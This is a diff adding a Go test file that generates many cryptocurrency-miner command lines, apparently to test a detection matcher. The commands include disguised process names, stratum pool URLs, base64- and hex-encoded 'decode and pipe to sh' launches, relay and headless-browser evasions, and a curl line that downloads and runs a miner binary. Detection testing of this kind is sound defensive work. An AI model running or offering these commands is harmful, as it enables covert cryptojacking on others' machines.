@@ -1,0 +1,160 @@
+package rules_test
+
+import (
+	"encoding/base64"
+	"math/rand/v2"
+	"slices"
+	"strings"
+)
+
+// A minerKind is a way to start a miner.
+type minerKind struct {
+	name     string
+	commands [][]string
+	needs    string // feature of the matcher; "" if single strings suffice
+}
+
+// Features that a matcher of single strings lacks.
+const (
+	aCombination = "a combination: words that only together are a miner's"
+	aPrefix      = "a prefix: a program's name up to a place"
+)
+
+// wallets returns invented wallet addresses of valid form, always the same.
+func wallets() map[string]string {
+	rnd := rand.New(rand.NewPCG(1, 2))
+	const base58 = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"
+	const bech32 = "qpzry9x8gf2tvdw0s3jn54khce6mua7l"
+	shape := func(prefix, letters string, n int) string {
+		b := []byte(prefix)
+		for len(b) < n {
+			b = append(b, letters[rnd.IntN(len(letters))])
+		}
+		return string(b)
+	}
+	return map[string]string{
+		"monero":            shape("4", base58, 95),
+		"monero subaddress": shape("8", base58, 95),
+		"monero integrated": shape("4", base58, 106),
+		"zephyr":            shape("ZEPH", base58, 99),
+		"bitcoin":           shape("1", base58, 34),
+		"bitcoin segwit":    shape("bc1q", bech32, 42),
+		"raptoreum, verus":  shape("R", base58, 34),
+		"sugarchain":        shape("sugar1q", bech32, 45),
+		"ethereum":          shape("0x", "0123456789abcdef", 42),
+		"dero":              shape("dero1qy", bech32, 66),
+		"xelis":             shape("xel:", bech32, 63),
+		"kaspa":             shape("kaspa:q", bech32, 67),
+		"qubic":             shape("", "ABCDEFGHIJKLMNOPQRSTUVWXYZ", 60),
+		"aleo":              shape("aleo1", bech32, 63),
+	}
+}
+
+// renamed returns programs with inconspicuous names.
+func renamed() []string { return []string{"/tmp/.x/worker", "./python3", "/dev/fd/5", "[kworker/0:1]"} }
+
+// pools returns hosts with a port: a known pool, an address, a relay and an unknown name.
+func pools() []string {
+	return []string{"pool.supportxmr.com:3333", "203.0.113.7:4444", "127.0.0.1:6010", "a.example.net:443"}
+}
+
+// minerKinds returns the kinds of miners, with one command for each combination of their
+// parts. The syntax is that of the usage texts of xmrig, cpuminer-opt, SRBMiner, lolMiner,
+// ethminer, NBMiner, BzMiner and rigel.
+func minerKinds() []minerKind {
+	xmr := wallets()["monero"]
+	return slices.Concat(stringKinds(xmr), furtherKinds(xmr))
+}
+
+// stringKinds returns the kinds that a single string can match.
+func stringKinds(xmr string) []minerKind {
+	var schemes, glued, names, flags, encoded [][]string
+	for scheme := range strings.FieldsSeq(`
+		stratum+tcp stratum+tcps stratum+ssl stratum+tls stratum+tls12 stratum+tls13 stratum+udp stratum+ws
+		stratum+wss stratum+http stratum+https stratum1+tcp stratum1+ssl stratum1+tls stratum1+tls12
+		stratum2+tcp stratum2+tcps stratum2+ssl stratum2+tls12 stratum3+tcp stratum3+ssl
+		stratum stratums stratumss daemon+http daemon+https solo+tcp solo+http
+		ethproxy+tcp ethproxy+ssl ethstratum+tcp ethstratum+ssl ethstratum2+tcp ethnh+tcp nicehash+tcp
+		zmp+tcp zmp+ssl node+tcp`) {
+		for _, program := range renamed() {
+			for _, option := range []string{"-o", "--url", "-P", "--pool", "-c"} {
+				schemes = append(schemes, []string{program, option, scheme + "://203.0.113.7:4444", "-u", xmr})
+			}
+			for _, option := range []string{"-o", "--url=", "-o[1]", strings.ToUpper("--pool=")} {
+				glued = append(glued, []string{program, option + strings.ToUpper(scheme) + "://" + xmr + "@203.0.113.7:4444"})
+			}
+		}
+	}
+	for name := range strings.FieldsSeq(`
+		xmrig XMRig xmrig-notls xmrig.exe xmr-stak minerd cpuminer cpuminer-avx2 cpuminer-avx512-sha-vaes
+		cpuminer-sse42-aes cpuminer-zen4 SRBMiner-MULTI srbminer-multi wildrig-multi lolMiner nanominer
+		hellminer bzminer onezerominer nbminer t-rex.miner/ccminer PhoenixMiner dero-miner-linux-amd64 rqiner-x86
+		rqiner-x86-znver4 qli-Client tnn-miner xelis_miner aleo_prover kinsing kdevtmpfsi`) {
+		for _, directory := range []string{"", "./", "/dev/shm/.x/", "/root/.cache/miner-6.22.2/"} {
+			names = append(names, []string{directory + name, "-c", "config.json"})
+		}
+		names = append(names, []string{"/bin/sh", "-c", "cd /tmp && nohup ./" + name + " -c config.json >/dev/null 2>&1 &"})
+	}
+	for _, option := range []string{
+		"--donate-level=0", "--donate-l=1", "--randomx-1gb-pages", "--randomx-mode=fast", "--cpu-max-threads-hint=75",
+		"--huge-pages-jit", "--algo=rx/wow", "--algo=cn/r", "--self-select=203.0.113.7:18081", "--msr-use-preset",
+		"--disable-msr-tweaks", "--cpu-threads-intensity", "--ethstratum", "--start-mining", "-ewal", "--farm-recheck",
+	} {
+		for _, program := range renamed() {
+			flags = append(flags, []string{program, option, xmr, "-k"}, []string{program, "-o", "203.0.113.7:4444", option})
+		}
+	}
+	for _, text := range []string{"./a -o stratum+tcp://203.0.113.7:4444", "./a --donate-level 1", "a=stratum+ssl://b:1"} {
+		for before := range 3 {
+			b64 := base64.StdEncoding.EncodeToString([]byte(strings.Repeat("#", before) + text))
+			encoded = append(encoded, []string{"/bin/sh", "-c", "echo " + b64 + " | base64 -d | sh"})
+		}
+	}
+	encoded = append(encoded, []string{"/bin/bash", "-c", "echo 2e2f61202d6f207374726174756d2b7463703a2f2f61 | xxd -r -p | sh"})
+	return []minerKind{
+		{name: "the scheme of a miner's URL", commands: schemes},
+		{name: "the scheme glued to its option, in upper case", commands: glued},
+		{name: "the name of a miner's program", commands: names},
+		{name: "an option that only miners have", commands: flags},
+		{name: "an encoded command line", commands: encoded},
+	}
+}
+
+// furtherKinds returns the kinds that need other features of the matcher.
+func furtherKinds(xmr string) []minerKind {
+	var wallet, algorithm, coin, relayed, versions [][]string
+	for _, program := range renamed() {
+		for _, pool := range pools() {
+			for _, w := range wallets() {
+				for _, o := range [][3]string{{"-o", "-u", "-k"}, {"--url", "--user", "--tls"}, {"--pool", "--wallet", "-B"}, {"-0", "-u", "--tls"}} {
+					wallet = append(wallet, []string{program, o[0], pool, o[1], w + ".rig1", o[2]}, []string{program, o[0] + "=" + pool, o[1] + "=" + w})
+				}
+			}
+			for a := range strings.FieldsSeq(`rx/0 rx randomx cn/r kawpow ghostrider gr verushash verus yespower
+				yespowersugar power2b minotaurx etchash autolykos2 astrobwt xelishashv3 sha3x panthera`) {
+				algorithm = append(algorithm,
+					[]string{program, "-a", a, "-o", pool, "-u", "worker"}, []string{program, "--algo", a, "--pool", pool},
+					[]string{program, "--algorithm", a, "--pool", pool}, []string{program, "--algorithm=" + a, "--pool=" + pool})
+			}
+			coin = append(coin, []string{program, "--coin", "monero", "-o", pool}, []string{program, "--coin=XMR", "--url=" + pool},
+				[]string{program, "--rig-id", "a", "-o", pool, "--nicehash"}, []string{program, "--miner-address", wallets()["xelis"], "--daemon-address", pool})
+		}
+	}
+	relayed = [][]string{
+		{"/usr/bin/proxychains4", "./worker", "-o", "pool.supportxmr.com:3333", "-a", "rx", "-u", xmr},
+		{"./graftcp", "./worker", "--algo", "ETCHASH", "--pool", "203.0.113.7:3353", "--user", wallets()["ethereum"]},
+		{"/usr/bin/firefox", "--headless", "https://miner.example.net?algorithm=minotaurx&host=mine.zpool.ca&port=7019&worker=" + wallets()["bitcoin"]},
+		{"/bin/sh", "-c", "curl -sL http://203.0.113.7/w -o w && chmod +x w && ./w -o pool.supportxmr.com:3333 -u " + xmr + " &"},
+	}
+	for name := range strings.FieldsSeq(`xmrig-6.22.2 xmrig-6.22.2-linux-static-x64 cpuminer-v4 cpuminer-sse5 SRBMiner-MULTI-2-9-4
+		wildrig-multi-0.40.5 dero-miner-linux-riscv64 rqiner-x86-znver6 xmrigd`) {
+		versions = append(versions, []string{"./" + name, "-c", "config.json"})
+	}
+	return []minerKind{
+		{"a pool or its address with a wallet", wallet, aCombination},
+		{"an algorithm with a pool", algorithm, aCombination},
+		{"a coin, a rig or a payout address with a pool", coin, aCombination},
+		{"a miner behind a relay, in a browser, or from a downloading shell", relayed, aCombination},
+		{"a program's name with a version or a new variant", versions, aPrefix},
+	}
+}
